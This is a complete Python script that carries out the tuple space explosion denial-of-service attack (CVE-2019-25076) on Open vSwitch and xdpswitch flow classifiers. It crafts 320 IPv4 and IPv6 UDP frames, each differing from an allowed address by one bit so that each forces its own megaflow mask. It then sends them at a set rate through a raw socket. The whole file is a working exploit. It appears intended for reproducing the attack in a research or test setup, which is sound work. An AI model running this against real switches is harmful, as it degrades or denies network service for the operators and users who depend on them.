#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Tuple space explosion stream (CVE-2019-25076, CoNEXT 2019): a low-rate
cycle of crafted UDP frames against an ACL that allows SRC -> DST (IPv4)
and SRC6 -> DST6 (IPv6) with exact addresses. Frame k differs from an
allowed address in bit k only, so a classifier with prefix tries (both
xdpswitch and Open vSwitch have them on the IP addresses) unwildcards that
address down to bit k: every frame asks for a megaflow mask of its own
(32 + 32 + 128 + 128 = 320 frames, up to as many masks). Frames go out of
DEV through an AF_PACKET socket, RATE per second, for SECONDS.

usage: tse_attack.py DEV DST_MAC RATE SECONDS"""
import ipaddress
import socket
import struct
import sys
import time

SRC4, DST4 = "172.16.0.1", "172.16.0.2"
SRC6, DST6 = "fd00::1", "fd00::2"


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp4(src, dst):
    payload = b"\0" * 18
    udp = struct.pack("!HHHH", 4000, 80, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return 0x0800, ip + udp


def udp6(src, dst):
    payload = b"\0" * 18
    udp = struct.pack("!HHHH", 4000, 80, 8 + len(payload), 0) + payload
    pseudo = src.packed + dst.packed + struct.pack("!I3xB", len(udp), 17)
    udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!IHBB16s16s", 6 << 28, len(udp), 17, 64, src.packed, dst.packed)
    return 0x86DD, ip + udp


def flip(addr, bit, bits):
    return ipaddress.ip_address(int(addr) ^ (1 << (bits - 1 - bit)))


def frames(dst_mac, src_mac):
    s4, d4 = ipaddress.ip_address(SRC4), ipaddress.ip_address(DST4)
    s6, d6 = ipaddress.ip_address(SRC6), ipaddress.ip_address(DST6)
    out = []
    for k in range(32):
        out.append(udp4(flip(s4, k, 32), d4))
        out.append(udp4(s4, flip(d4, k, 32)))
    for k in range(128):
        out.append(udp6(flip(s6, k, 128), d6))
        out.append(udp6(s6, flip(d6, k, 128)))
    return [dst_mac + src_mac + struct.pack("!H", et) + body for et, body in out]


def main():
    if len(sys.argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    dev, dst_mac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
    rate, secs = float(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    src_mac = s.getsockname()[4][:6]
    fr = frames(dst_mac, src_mac)
    t0 = time.monotonic()
    sent = 0
    while time.monotonic() - t0 < secs:
        s.send(fr[sent % len(fr)])
        sent += 1
        ahead = t0 + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print('{"frames": %d, "distinct": %d, "seconds": %.2f}' % (sent, len(fr), time.monotonic() - t0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
